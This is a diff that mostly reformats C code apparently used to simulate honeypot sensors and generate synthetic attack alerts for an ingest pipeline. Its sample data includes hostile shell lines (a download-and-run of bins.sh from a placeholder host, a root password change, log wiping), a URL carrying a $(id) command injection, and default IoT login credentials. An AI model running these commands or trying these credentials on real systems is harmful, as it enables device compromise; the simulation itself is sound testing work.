@@ -31,13 +31,14 @@ enum style {
 };
 
 struct honeynet_kind {
-    const char *name;         /* the Analyzer id's prefix: the ingest classifies by it */
-    const char *description;  /* ewsposter's Request type="description" */
-    unsigned weight;          /* share of the sensors, percent */
+    const char *name;        /* the Analyzer id's prefix: the ingest classifies by it */
+    const char *description; /* ewsposter's Request type="description" */
+    unsigned weight;         /* share of the sensors, percent */
     enum style style;
     unsigned short ports[10]; /* its ports, most attacked first; none: any commonly scanned port */
 };
 
+/* clang-format off */
 static const struct honeynet_kind kinds[] = {
     {"cowrie", "SSH Honeypot Cowrie", 26, STYLE_SHELL, {22, 23, 2222}},
     {"honeytrap", "NetworkHoneypot Honeytrap v1.1", 18, STYLE_PORT, {0}},
@@ -55,6 +56,7 @@ static const struct honeynet_kind kinds[] = {
     {"glutton", "Glutton Honeypot", 2, STYLE_NONE, {0}},
     {"medpot", "Medpot HL7 Honeypot", 1, STYLE_NONE, {2575}},
 };
+/* clang-format on */
 
 struct country {
     const char *code, *name;
@@ -79,6 +81,7 @@ static const struct site {
 };
 
 /* Attacker countries, most active first (the share falls with the position). */
+/* clang-format off */
 static const struct country attacker_countries[] = {
     {"CN", "China", 34.7725, 113.7266},        {"US", "United States", 37.751, -97.822},
     {"RU", "Russia", 55.7386, 37.6068},        {"NL", "Netherlands", 52.3824, 4.8995},
@@ -94,21 +97,24 @@ static const struct country attacker_countries[] = {
     {"AR", "Argentina", -34.6022, -58.3845},   {"MX", "Mexico", 19.4285, -99.1277},
     {"IT", "Italy", 43.1479, 12.1097},         {"ES", "Spain", 40.4172, -3.6840},
 };
+/* clang-format on */
 
 /*
  * First octets of attacker addresses: 64 blocks of public unicast space from
  * every registry, none holding a private or reserved range, none a T-Pot's.
  */
 static const unsigned char attacker_octets[] = {
-    1,   2,   5,   14,  23,  27,  31,  36,  37,  39,  41,  42,  43,  45,  46,  49,  58,  59,  60,  61,  62,  64,
-    66,  67,  68,  69,  70,  71,  72,  73,  78,  79,  81,  82,  86,  88,  89,  91,  92,  93,  94,  95,  101, 103,
-    104, 106, 109, 110, 119, 120, 121, 122, 123, 124, 125, 175, 177, 179, 185, 186, 187, 190, 196, 200,
+    1,   2,   5,   14,  23,  27,  31,  36,  37,  39,  41,  42,  43,  45,  46,  49,
+    58,  59,  60,  61,  62,  64,  66,  67,  68,  69,  70,  71,  72,  73,  78,  79,
+    81,  82,  86,  88,  89,  91,  92,  93,  94,  95,  101, 103, 104, 106, 109, 110,
+    119, 120, 121, 122, 123, 124, 125, 175, 177, 179, 185, 186, 187, 190, 196, 200,
 };
-_Static_assert(ARRAY_LEN(attacker_octets) << 24 == HONEYNET_ATTACKERS_MAX, "one block per 2^24 attacker numbers");
+_Static_assert(ARRAY_LEN(attacker_octets) << 24 == HONEYNET_ATTACKERS_MAX,
+               "one block per 2^24 attacker numbers");
 
 static const unsigned short scanned_ports[] = {
-    445, 23, 22, 80, 3389, 1433, 3306, 5900, 8080, 443, 25, 5060, 6379, 9200, 2222,
-    21, 110, 143, 161, 502, 8443, 5555, 37215, 52869, 7547, 8088, 11211, 27017, 5432, 1723,
+    445, 23,  22,  80,  3389, 1433, 3306, 5900,  8080,  443,  25,   5060,  6379,  9200, 2222,
+    21,  110, 143, 161, 502,  8443, 5555, 37215, 52869, 7547, 8088, 11211, 27017, 5432, 1723,
 };
 static const unsigned short udp_ports[] = {161, 623, 1900, 5060, 47808};
 
@@ -117,11 +123,12 @@ static const struct {
     unsigned short port;
     const char *name;
 } services[] = {
-    {21, "ftp"},   {22, "ssh"},          {110, "pop3"},  {143, "imap"},    {3389, "rdp"}, {5432, "postgresql"},
-    {5900, "vnc"}, {1080, "socks5"},     {502, "modbus"}, {102, "s7comm"}, {161, "snmp"}, {47808, "bacnet"},
-    {623, "ipmi"},
+    {21, "ftp"},          {22, "ssh"},       {110, "pop3"},    {143, "imap"},   {3389, "rdp"},
+    {5432, "postgresql"}, {5900, "vnc"},     {1080, "socks5"}, {502, "modbus"}, {102, "s7comm"},
+    {161, "snmp"},        {47808, "bacnet"}, {623, "ipmi"},
 };
 
+/* clang-format off */
 static const char *const urls[] = {
     "/", "/wp-login.php", "/xmlrpc.php", "/.env", "/admin/config.php", "/phpmyadmin/index.php",
     "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
@@ -139,26 +146,32 @@ static const char *const user_agents[] = {
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
     "Mozilla/5.0 zgrab/0.x", "curl/7.64.1", "python-requests/2.25.1", "Go-http-client/1.1",
 };
+/* clang-format on */
 
 /* What is typed after a successful cowrie login (each line after a newline, as cowrie reports input). */
 static const char *const shell_sessions[] = {
-    "\nuname -a", "\nenable\nshell\nsh\ncat /proc/mounts; /bin/busybox VDXZY",
+    "\nuname -a",
+    "\nenable\nshell\nsh\ncat /proc/mounts; /bin/busybox VDXZY",
     "\ncd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
     "\ncat /proc/cpuinfo | grep name | wc -l\nfree -m | grep Mem\nls -lh $(which ls)",
-    "\necho -e \"\\x41\\x4b\\x34\\x37\"", "\nnproc\nuname -m\ncrontab -l",
-    "\necho \"root:x7Kq2pLm\" | chpasswd | bash", "\nlscpu | grep Model\nps -ef | grep '[Mm]iner'",
-    "\nrm -rf /tmp/* /var/tmp/*; history -c", "\nw\nuname -a\ncat /etc/os-release",
+    "\necho -e \"\\x41\\x4b\\x34\\x37\"",
+    "\nnproc\nuname -m\ncrontab -l",
+    "\necho \"root:x7Kq2pLm\" | chpasswd | bash",
+    "\nlscpu | grep Model\nps -ef | grep '[Mm]iner'",
+    "\nrm -rf /tmp/* /var/tmp/*; history -c",
+    "\nw\nuname -a\ncat /etc/os-release",
 };
 static const char *const credentials[][2] = {
-    {"root", "root"}, {"admin", "admin"}, {"root", "123456"}, {"user", "user"}, {"root", "klv123"},
-    {"admin", "password"}, {"support", "support"}, {"root", "xc3511"}, {"pi", "raspberry"}, {"ubnt", "ubnt"},
-    {"test", "test"}, {"oracle", "oracle"}, {"postgres", "postgres"}, {"root", "vizxv"}, {"guest", "12345"},
+    {"root", "root"},         {"admin", "admin"},    {"root", "123456"},     {"user", "user"},
+    {"root", "klv123"},       {"admin", "password"}, {"support", "support"}, {"root", "xc3511"},
+    {"pi", "raspberry"},      {"ubnt", "ubnt"},      {"test", "test"},       {"oracle", "oracle"},
+    {"postgres", "postgres"}, {"root", "vizxv"},     {"guest", "12345"},
 };
 static const char *const ssh_versions[] = {"SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0", "SSH-2.0-OpenSSH_7.4",
                                            "SSH-2.0-PUTTY", "SSH-2.0-libssh-0.6.0"};
 static const char *const cves[] = {
-    "CVE-2017-0144", "CVE-2021-44228", "CVE-2014-6271", "CVE-2017-17215", "CVE-2018-10561",
-    "CVE-2021-41773", "CVE-2020-0796", "CVE-2019-0708", "CVE-2022-26134",
+    "CVE-2017-0144",  "CVE-2021-44228", "CVE-2014-6271", "CVE-2017-17215", "CVE-2018-10561",
+    "CVE-2021-41773", "CVE-2020-0796",  "CVE-2019-0708", "CVE-2022-26134",
 };
 static const char *const conpot_events[] = {"NEW_CONNECTION", "CONNECTION_LOST"};
 
@@ -246,8 +259,8 @@ static void set_place(struct geo_place *out, const struct country *c, const char
     snprintf(out->country, sizeof out->country, "%s", c->code);
     snprintf(out->country_name, sizeof out->country_name, "%s", c->name);
     snprintf(out->as_text, sizeof out->as_text, "%s", as);
-    location_text(c->lat + (double)lat_off / 100.0 - 1.0, c->lon + (double)lon_off / 100.0 - 1.0, out->location,
-                  sizeof out->location);
+    location_text(c->lat + (double)lat_off / 100.0 - 1.0, c->lon + (double)lon_off / 100.0 - 1.0,
+                  out->location, sizeof out->location);
 }
 
 static const struct honeynet_kind *weighted_kind(unsigned slot)
@@ -302,8 +315,8 @@ void honeynet_init(struct honeynet *net, unsigned long seed)
         /* a stride coprime to 100 gives every type its share and mixes the types within a T-Pot */
         s->kind = weighted_kind(i * 17);
         s->tpot = &net->tpots[i / HONEYNET_SENSORS_PER_TPOT];
-        snprintf(s->ident, sizeof s->ident, "%s-%s-%03u", s->kind->name, s->tpot->community ? "community" : "dtag",
-                 i);
+        snprintf(s->ident, sizeof s->ident, "%s-%s-%03u", s->kind->name,
+                 s->tpot->community ? "community" : "dtag", i);
         s->peer_type = classify_peer(s->ident);
     }
     seed_rng(net->rng, seed);
@@ -331,8 +344,8 @@ static void attacker_place(uint32_t attacker, uint32_t addr, struct geo_place *o
     char as[64];
 
     snprintf(as, sizeof as, "AS%u Example Transit %u", 64496 + (addr >> 20) % 1000, (addr >> 20) % 1000);
-    set_place(out, &attacker_countries[(unsigned)(u * u * ARRAY_LEN(attacker_countries))], as, (addr >> 8) % 201,
-              addr % 201);
+    set_place(out, &attacker_countries[(unsigned)(u * u * ARRAY_LEN(attacker_countries))], as,
+              (addr >> 8) % 201, addr % 201);
 }
 
 /* ---- one attack ---- */
@@ -387,8 +400,9 @@ static void web_request(struct honeynet *net, struct honeynet_alert *a)
     int n;
 
     a->url = PICK_SKEWED(net, urls);
-    n = snprintf(raw, sizeof net->last.raw_http, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n",
-                 a->url, a->target_ip, PICK(net, user_agents));
+    n = snprintf(raw, sizeof net->last.raw_http,
+                 "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n", a->url, a->target_ip,
+                 PICK(net, user_agents));
     ews_md5_hex(raw, (size_t)n, net->last.payload_md5);
     a->payload = a->raw_http = raw;
     add_extra(a, "payload_md5", net->last.payload_md5);
@@ -408,7 +422,8 @@ static void conpot_id(struct honeynet *net, char out[40])
 }
 
 /* The honeypot type's part of the attack. */
-static void behave(struct honeynet *net, const struct honeynet_kind *k, unsigned port, struct honeynet_alert *a)
+static void behave(struct honeynet *net, const struct honeynet_kind *k, unsigned port,
+                   struct honeynet_alert *a)
 {
     switch (k->style) {
     case STYLE_PORT:
@@ -455,8 +470,8 @@ static void compose_request(struct honeynet *net, const struct honeynet_kind *k,
     a->request = out;
 }
 
-void honeynet_attack(struct honeynet *net, unsigned sensor, uint32_t attacker, time_t created, time_t received,
-                     bool some_private, struct honeynet_alert *out)
+void honeynet_attack(struct honeynet *net, unsigned sensor, uint32_t attacker, time_t created,
+                     time_t received, bool some_private, struct honeynet_alert *out)
 {
     const struct honeynet_sensor *s = &net->sensors[sensor % HONEYNET_SENSORS];
     const struct honeynet_tpot *tp = s->tpot;
@@ -474,16 +489,36 @@ void honeynet_attack(struct honeynet *net, unsigned sensor, uint32_t attacker, t
     snprintf(net->last.source_port, sizeof net->last.source_port, "%u", 1024 + honeynet_below(net, 64511));
     snprintf(net->last.target_port, sizeof net->last.target_port, "%u", port);
     *out = (struct honeynet_alert){
-        .client = "-", .client_version = "", .created = net->last.created,
-        .external_ip = tp->external_ip, .hostname = tp->hostname, .internal_ip = tp->internal_ip, .login = "", .password = "", .peer_ident = s->ident,
-        .peer_type = s->peer_type, .raw_http = "-", .session_end = "", .session_start = "",
-        .source_ip = net->last.source_ip, .source_port = net->last.source_port, .target_ip = tp->target_ip,
-        .target_port = net->last.target_port, .protocol = is_udp(port) ? "udp" : "tcp", .username = "",
-        .vulnid = "", .community = tp->community, .received = net->last.received,
-        .country = net->last.source.country, .country_name = net->last.source.country_name,
-        .source_as = net->last.source.as_text, .location = net->last.source.location,
-        .target_country = tp->place.country, .target_country_name = tp->place.country_name,
-        .target_as = tp->place.as_text, .location_dest = tp->place.location,
+        .client = "-",
+        .client_version = "",
+        .created = net->last.created,
+        .external_ip = tp->external_ip,
+        .hostname = tp->hostname,
+        .internal_ip = tp->internal_ip,
+        .login = "",
+        .password = "",
+        .peer_ident = s->ident,
+        .peer_type = s->peer_type,
+        .raw_http = "-",
+        .session_end = "",
+        .session_start = "",
+        .source_ip = net->last.source_ip,
+        .source_port = net->last.source_port,
+        .target_ip = tp->target_ip,
+        .target_port = net->last.target_port,
+        .protocol = is_udp(port) ? "udp" : "tcp",
+        .username = "",
+        .vulnid = "",
+        .community = tp->community,
+        .received = net->last.received,
+        .country = net->last.source.country,
+        .country_name = net->last.source.country_name,
+        .source_as = net->last.source.as_text,
+        .location = net->last.source.location,
+        .target_country = tp->place.country,
+        .target_country_name = tp->place.country_name,
+        .target_as = tp->place.as_text,
+        .location_dest = tp->place.location,
         /* honeytrap reports UTC whatever the T-Pot's zone */
         .tz_minutes = strcmp(s->kind->name, "honeytrap") == 0 ? 0 : tp->tz_minutes,
         .description = s->kind->description,
@@ -504,11 +539,13 @@ enum field_kind { F_TEXT, F_DOMAIN, F_EXTRA };
 static const struct field {
     const char *name;
     enum field_kind kind;
-    size_t offset;        /* of the const char * in struct honeynet_alert */
+    size_t offset; /* of the const char * in struct honeynet_alert */
     const char *meaning;
     bool encoded;
 } fields[] = {
+/* clang-format off */
 #define TEXT(name, member, meaning, encoded) {name, F_TEXT, offsetof(struct honeynet_alert, member), meaning, encoded}
+    /* clang-format on */
     TEXT("client", client, NULL, false),
     TEXT("clientVersion", client_version, "version", false),
     TEXT("createTime", created, NULL, false),
@@ -629,7 +666,8 @@ static void child(struct buf *out, const char *element, const char *kind, const 
     curl_free(escaped);
 }
 
-static void endpoint(struct buf *out, const char *element, const char *ip, const char *port, const char *protocol)
+static void endpoint(struct buf *out, const char *element, const char *ip, const char *port,
+                     const char *protocol)
 {
     buf_printf(out, "<%s", element);
     attribute(out, "category", strchr(ip, ':') ? "ipv6" : "ipv4");
@@ -695,7 +733,8 @@ void honeynet_xml_alert(struct buf *out, const struct honeynet_alert *a)
     for (size_t i = 0; i < a->extras; i++) {
         /* the ingest computes payload_md5 from the payload; ewsposter percent-encodes a payload */
         if (strcmp(a->extra[i].key, "payload_md5") != 0)
-            child(out, "AdditionalData", a->extra[i].key, a->extra[i].value, strcmp(a->extra[i].key, "payload") == 0);
+            child(out, "AdditionalData", a->extra[i].key, a->extra[i].value,
+                  strcmp(a->extra[i].key, "payload") == 0);
     }
     buf_puts(out, "</Alert>");
 }
